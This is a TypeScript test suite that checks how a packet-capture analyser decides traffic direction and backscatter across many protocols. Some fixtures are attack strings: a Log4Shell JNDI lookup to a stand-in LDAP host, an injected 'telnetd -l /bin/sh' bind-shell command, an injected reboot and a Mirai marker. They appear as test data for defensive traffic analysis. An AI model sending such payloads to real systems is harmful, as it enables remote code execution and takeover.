import { describe, expect, it, test } from 'vitest'
import type { TimedFrame } from '../build/pcap.ts'
import { icmp, tcp, udp } from '../build/transport.ts'
import { ecdhInit, ecdhReply, kexInitOf } from '../protocols/samples/ssh.ts'
import { client, connection } from '../testing/exchange.ts'
import { frames, only, type Packet } from '../testing/two-ends.ts'

/** Claims about docs/methods/direction.md. `client` asks, `server` answers, whatever was captured of it. */

const judged = async (captured: TimedFrame[]): Promise<[source: string, direction: string]> => {
  const { source, direction } = await only(captured)
  return [source.ip === client ? 'client' : 'server', direction]
}

/** A segment of a connection from port 40000 to `port`. */
const segment = (from: 'client' | 'server', port: number, flags: string, payload = ''): Packet => {
  const [sourcePort, destinationPort] = from === 'client' ? [40_000, port] : [port, 40_000]
  return [from, tcp({ sourcePort, destinationPort, sequence: 1, acknowledgment: 1, flags, payload })]
}

const datagram = (from: 'client' | 'server', port: number, payload: string, own = 40_000): Packet => {
  const [sourcePort, destinationPort] = from === 'client' ? [own, port] : [port, own]
  return [from, udp({ sourcePort, destinationPort, payload })]
}

const request = 'GET /a HTTP/1.1\r\nHost: h.test\r\n\r\n'
const response = 'HTTP/1.1 200 OK\r\nServer: s\r\nContent-Length: 2\r\n\r\nok'
const query = '\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01a\x04test\x00\x00\x01\x00\x01'
const answer = `\x00\x01\x81\x80${query.slice(4)}`

describe('a connection', () => {
  const whole = connection(request, response)

  it('was asked for by who sent the first SYN, however much of its end is missing', async () => {
    for (let kept = 1; kept <= whole.length; kept++)
      expect(await judged(whole.slice(0, kept))).toEqual(['client', 'request'])
  })

  it('whose beginning is missing is of who asks in it, as long as anything of the kind is left', async () => {
    for (let dropped = 1; dropped < whole.length; dropped++) {
      const [source, direction] = await judged(whole.slice(dropped))
      // Behind the response only two FINs and an ACK are left, which nobody can tell apart.
      if (dropped <= 4) expect([source, direction, dropped]).toEqual(['client', 'request', dropped])
      expect([source, direction]).not.toEqual(['server', 'request'])
      expect([source, direction]).not.toEqual(['server', 'unknown'])
    }
  })

  it('keeps what each end said apart: what a server asks is no request of its client', async () => {
    const hostile = 'GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1\r\nUser-Agent: evil\r\n\r\n'
    const one = await only(connection('hello\r\n', hostile))
    expect(one).toMatchObject({ source: { ip: client }, direction: 'request', http: null })
    expect(one.destinationHttp?.requests).toMatchObject([{ userAgent: 'evil' }])
    const both = await only(connection(request, `${response}${hostile}`))
    expect(both.http).toMatchObject({ requestCount: 1, statusCodes: [200], serverHeader: 's' })
    expect(both.destinationHttp).toMatchObject({ requestCount: 1, statusCodes: [] })
  })

  it('of SSH is of who begins the key exchange, with the marks of that end', async () => {
    const bytes = (value: Uint8Array): string => Buffer.from(value).toString('latin1')
    const said = connection(
      `SSH-2.0-Go\r\n${bytes(kexInitOf('client'))}${bytes(ecdhInit)}`,
      `SSH-2.0-OpenSSH_9.6\r\n${bytes(kexInitOf('server'))}${bytes(ecdhReply)}`,
      { midStream: true, destinationPort: 2222 },
    )
    const [hello, reply] = [said[0]!, said.find(({ frame }) => Buffer.from(frame).readUInt16BE(34) === 2222)!]
    const turned = await only([{ ...reply, at: hello.at }, ...said.filter((one) => one !== reply)])
    expect(turned).toMatchObject({
      source: { ip: client, port: 40_000 },
      direction: 'request',
      ssh: { clientVersion: 'SSH-2.0-Go', serverVersion: 'SSH-2.0-OpenSSH_9.6' },
      tcp: { sequence: 1001 },
    })
    expect(turned.ssh?.hassh).not.toBe('')
  })
})

/** Half of a packet of QUIC or of a file: bytes as encryption leaves them. */
const noise = (length: number): string =>
  Array.from({ length }, (_, at) => String.fromCharCode((at * 89 + 160) & 255)).join('')
const exploit = 'GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1\r\nHost: h\r\n\r\n'
const quoting = `<p>You asked:\n${exploit}</p>`

const nobody: [what: string, captured: TimedFrame[]][] = [
  ['a SYN-ACK', frames([segment('server', 443, 'SA')])],
  [
    'a SYN-ACK and the reset of who never asked',
    frames([segment('server', 443, 'SA'), segment('client', 443, 'R')]),
  ],
  ['a reset', frames([segment('server', 443, 'RA')])],
  [
    'data of a server caught in its middle',
    frames([segment('server', 443, 'PA', '\x17\x03\x03\x00\x20abc')]),
  ],
  ['the end of a server’s connection', frames([segment('server', 80, 'FA'), segment('client', 80, 'A')])],
  ['a response without its request', frames([segment('server', 8181, 'PA', response)])],
  ['a greeting of a mail server', frames([segment('server', 2526, 'PA', '220 mail.test ESMTP\r\n')])],
  ['an answer of DNS', frames([datagram('server', 53, answer)])],
  ['an answer of DNS to port 53', frames([datagram('server', 53, answer, 53)])],
  ['an answer of NTP', frames([datagram('server', 123, '\x24\x01\x00\xec')])],
  ['a monitor list of NTP', frames([datagram('server', 123, '\xd7\x00\x03\x2a')])],
  ['an answer of SNMP', frames([datagram('server', 161, '0\x1c\x02\x01\x01\x04\x06public\xa2\x0f')])],
  ['an answer of SSDP', frames([datagram('server', 1900, 'HTTP/1.1 200 OK\r\n')])],
  ['an answer of SIP', frames([datagram('server', 5062, 'SIP/2.0 200 OK\r\n')])],
  ['an answer of QUIC under way', frames([datagram('server', 443, `\x4f${noise(40)}`)])],
  ['a retry of QUIC', frames([datagram('server', 443, `\xf0\x00\x00\x00\x01\x08${noise(40)}`)])],
  ['versions of QUIC', frames([datagram('server', 8443, `\x9a\x00\x00\x00\x00\x08${noise(20)}`)])],
  ['an answer of SLP', frames([datagram('server', 427, '\x02\x02\x00\x00\x20\x00\x00\x00\x00\x00')])],
  ['matches of WS-Discovery', frames([datagram('server', 3702, '<?xml version="1.0"?><s:Envelope><a:To/>')])],
  ['the instances of a SQL server', frames([datagram('server', 1434, '\x05\x58\x00ServerName;DB;')])],
  ['an answer of a game server', frames([datagram('server', 27016, '\xff\xff\xff\xffI\x11name\x00map\x00')])],
  ['a challenge of a game server', frames([datagram('server', 27015, '\xff\xff\xff\xffA\x01\x02\x03\x04')])],
  [
    'an acknowledged property of BACnet',
    frames([datagram('server', 47808, '\x81\x0a\x00\x14\x01\x00\x30\x01\x0c')]),
  ],
  [
    'an I-Am of BACnet',
    frames([datagram('server', 47808, '\x81\x0b\x00\x18\x01\x20\xff\xff\x00\xff\x10\x00\xc4')]),
  ],
  ['data of TFTP', frames([datagram('server', 50_069, '\x00\x03\x00\x01configuration')])],
  ['a later block of TFTP', frames([datagram('server', 50_069, `\x00\x03\x01\x07${noise(512)}`)])],
  ['an error of TFTP', frames([datagram('server', 69, '\x00\x05\x00\x01File not found\x00')])],
  ['a page that quotes a request', frames([segment('server', 80, 'PA', quoting)])],
  [
    'a page that quotes one, acknowledged',
    frames([segment('server', 80, 'PA', quoting), segment('client', 80, 'A')]),
  ],
  [
    'a file sent from the port of FTP data',
    frames([segment('server', 20, 'PA', exploit), segment('client', 20, 'A')]),
  ],
  [
    'a reply of Redis that is a list',
    frames([segment('server', 6379, 'PA', '*2\r\n$3\r\nfoo\r\n$3\r\nbar\r\n')]),
  ],
  ['chargen', frames([datagram('server', 19, ' !"#$%&')])],
  ['an echo reply', frames([['server', icmp({ type: 0 })]])],
  ['a port that cannot be reached', frames([['server', icmp({ type: 3, code: 3 })]])],
  ['a time that is exceeded', frames([['server', icmp({ type: 11 })]])],
]

describe('an answer to a question nobody saw is backscatter', () => {
  test.each(nobody)('%s', async (_what, captured) => {
    expect((await only(captured)).direction).toBe('backscatter')
  })
})

const asked: [what: string, captured: TimedFrame[]][] = [
  ['a SYN', frames([segment('client', 443, 'S')])],
  ['a segment that answers nothing (FIN scan)', frames([segment('client', 443, 'F')])],
  ['all flags of a Xmas scan', frames([segment('client', 443, 'FPU')])],
  ['no flags at all', frames([segment('client', 443, '')])],
  [
    'an answer of DNS before its question',
    frames([datagram('server', 53, answer), datagram('client', 53, query)]),
  ],
  ['a question of DNS', frames([datagram('client', 53, query)])],
  ['a question of NTP between the same ports', frames([datagram('client', 123, '\x23\x00\x0a\xfa', 123)])],
  ['an echo request', frames([['client', icmp({ type: 8 })]])],
  [
    'an echo request behind the reply',
    frames([
      ['server', icmp({ type: 0 })],
      ['client', icmp({ type: 8 })],
    ]),
  ],
  ['an acknowledged SYN-ACK', frames([segment('server', 443, 'SA'), segment('client', 443, 'A')])],
]

describe('who asks is the source', () => {
  test.each(asked)('%s', async (_what, captured) => {
    expect(await judged(captured)).toEqual(['client', 'request'])
  })

  it('and an echo request gives the type, whatever came before it', async () => {
    const { icmp: message } = await only(
      frames([
        ['server', icmp({ type: 3, code: 1 })],
        ['client', icmp({ type: 8 })],
      ]),
    )
    expect(message).toEqual({ type: 8, code: 0 })
  })
})

const unproven: [what: string, source: 'client' | 'server', captured: TimedFrame[]][] = [
  [
    'a page on a port nobody knows, quoting a request',
    'server',
    frames([segment('server', 8090, 'PA', quoting), segment('client', 8090, 'A')]),
  ],
  [
    'a file that reads like a request',
    'server',
    frames([segment('server', 50_123, 'PA', exploit), segment('client', 50_123, 'A')]),
  ],
  [
    'a list of Redis from another port',
    'server',
    frames([segment('server', 6380, 'PA', '*1\r\n$3\r\nfoo\r\n'), segment('client', 6380, 'A')]),
  ],
  [
    'what a server on another port of Telnet shows',
    'server',
    frames([segment('server', 2323, 'PA', '/bin/busybox MIRAI\r\n'), segment('client', 2323, 'A')]),
  ],
  [
    'an echo behind what it echoes',
    'server',
    frames([segment('client', 7777, 'PA', quoting), segment('server', 7777, 'PA', exploit)]),
  ],
  ['a lone segment, which anybody may have sent', 'client', frames([segment('client', 80, 'PA', exploit)])],
  [
    'a lone segment that was refused',
    'client',
    frames([segment('client', 80, 'PA', exploit), segment('server', 80, 'R')]),
  ],
  [
    'what a server said to somebody who speaks like one',
    'server',
    frames([
      segment('client', 2526, 'PA', response),
      segment('server', 2526, 'PA', '500 what is ${jndi:ldap://a/a}?\r\n'),
    ]),
  ],
  [
    'a page that holds a ClientHello',
    'server',
    frames([
      segment(
        'server',
        8090,
        'PA',
        `see: \x16\x03\x01\x00\x2d\x01\x00\x00\x29\x03\x03${noise(32)}\x00\x00\x02\x13\x01\x01\x00`,
      ),
      segment('client', 8090, 'A'),
    ]),
  ],
]

describe('in a stream whose beginning nobody saw, the other end must bear a request out, or it is unknown', () => {
  test.each(unproven)('%s', async (_what, source, captured) => {
    expect(await judged(captured)).toEqual([source, 'unknown'])
  })

  const proven: [what: string, captured: TimedFrame[]][] = [
    [
      'answered in kind, on any port',
      frames([segment('client', 8090, 'PA', exploit), segment('server', 8090, 'PA', response)]),
    ],
    [
      'acknowledged by a service’s port that had not spoken',
      frames([
        segment('client', 6379, 'PA', '*1\r\n$4\r\nPING\r\n'),
        segment('server', 6379, 'PA', '+PONG\r\n'),
      ]),
    ],
    [
      'typed to Telnet’s port and acknowledged',
      frames([segment('client', 23, 'PA', 'enable\r\n'), segment('server', 23, 'A')]),
    ],
  ]
  test.each(proven)('%s it is one', async (_what, captured) => {
    expect(await judged(captured)).toEqual(['client', 'request'])
  })

  it('and data without SYN, ACK and RST reach nobody', async () => {
    const scan = await only(frames([segment('client', 80, 'F', exploit)]))
    expect(scan).toMatchObject({ source: { ip: client }, direction: 'request', http: null })
    expect(scan.sourcePayload).toHaveLength(0)
  })
})

test('questions of the same protocols are requests of their senders', async () => {
  const questions: [port: number, payload: string][] = [
    [427, '\x02\x01\x00\x00\x20\x00\x00\x00'],
    [1434, '\x02'],
    [
      3702,
      '<?xml version="1.0"?><Envelope><Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/Probe</Action>',
    ],
    [27015, '\xff\xff\xff\xffTSource Engine Query\x00'],
    [47808, '\x81\x0a\x00\x11\x01\x04\x00\x05\x01\x0c'],
    [47808, '\x81\x0b\x00\x0c\x01\x20\xff\xff\x00\xff\x10\x08'],
  ]
  for (const [port, payload] of questions)
    expect([port, ...(await judged(frames([datagram('client', port, payload)])))]).toEqual([
      port,
      'client',
      'request',
    ])
  // Sent to the server's port, the shape of an answer is one that nobody asked for.
  expect(await judged(frames([datagram('client', 1434, '\x05\x58\x00ServerName')]))).toEqual([
    'client',
    'unknown',
  ])
  expect(await judged(frames([datagram('client', 9034, 'orf;telnetd -l /bin/sh -p 31337', 443)]))).toEqual([
    'client',
    'unknown',
  ])
})

test('what proves nothing is unknown, and its first sender the source', async () => {
  expect(await judged(frames([segment('client', 8181, 'PA', '\x00\x01')]))).toEqual(['client', 'unknown'])
  expect(await judged(frames([datagram('client', 40_001, 'hello')]))).toEqual(['client', 'unknown'])
  // A port alone proves no answer: what an attacker sends from port 53 is still what they sent.
  expect(await judged(frames([datagram('server', 53, 'orf;reboot', 9034)]))).toEqual(['server', 'unknown'])
})
